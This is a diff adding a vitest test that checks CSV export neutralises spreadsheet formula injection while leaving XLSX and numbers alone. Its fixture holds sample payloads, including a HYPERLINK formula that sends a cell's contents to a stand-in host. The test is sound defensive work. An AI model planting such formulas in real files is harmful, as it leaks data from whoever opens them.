@@ -4,12 +4,12 @@ import { join } from 'node:path';
 import { fileURLToPath } from 'node:url';
 import ExcelJS from 'exceljs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { parseCsvText } from './csv.ts';
+import { csvExportField, parseCsvText } from './csv.ts';
 import { exportQuery, formatFromFileName } from './export.ts';
 import { referenceDataHooks } from './first-use.ts';
 import { FlowQuery, flowQuerySql } from './flow-query.ts';
 import { importComtrade } from './importers/comtrade.ts';
-import { openStore, type Store } from './store.ts';
+import { openStore, type Store, sqlLiteral } from './store.ts';
 
 const dir = mkdtempSync(join(tmpdir(), 'amur-export-test-'));
 let store: Store;
@@ -74,6 +74,41 @@ describe('exports', () => {
     expect(ws?.rowCount).toBe(4);
     expect(ws?.getRow(1).getCell(1).value).toBe('source_id');
     expect(ws?.getRow(2).getCell(12).value).toBe('270900');
+  });
+
+  it('neutralises CSV cells a spreadsheet would evaluate (OWASP), leaving numbers and XLSX alone', async () => {
+    const evil = [
+      '=HYPERLINK("http://x.example/?leak="&A1,"click")',
+      '+1+2',
+      '-2+3',
+      '@SUM(A1)',
+      '\tTAB',
+      '\rCR',
+      'plain, with comma',
+    ];
+    const sqlEvil = `SELECT * FROM (VALUES ${evil.map((e, i) => `(${i}, ${sqlLiteral(e)}, -${i}.5)`).join(', ')}) t(n, label, v) ORDER BY n`;
+    const file = join(dir, 'evil.csv');
+    expect(await exportQuery(store, sqlEvil, 'csv', file)).toBe(evil.length);
+    const rows = parseCsvText(readFileSync(file, 'utf8'));
+    expect(rows.map((r) => r.label)).toEqual([
+      `'${evil[0]}`,
+      "'+1+2",
+      "'-2+3",
+      "'@SUM(A1)",
+      "'\tTAB",
+      "'\rCR",
+      'plain, with comma',
+    ]);
+    expect(rows[1].v).toBe('-1.5');
+    expect(csvExportField('=1+1')).toBe("'=1+1");
+    expect(csvExportField(-3)).toBe('-3');
+    const xlsx = join(dir, 'evil.xlsx');
+    await exportQuery(store, sqlEvil, 'xlsx', xlsx);
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.readFile(xlsx);
+    const cell = wb.getWorksheet('flows')?.getRow(2).getCell(2);
+    expect(cell?.value).toBe(evil[0]);
+    expect(cell?.formula).toBeUndefined();
   });
 
   it('knows formats by file name', () => {
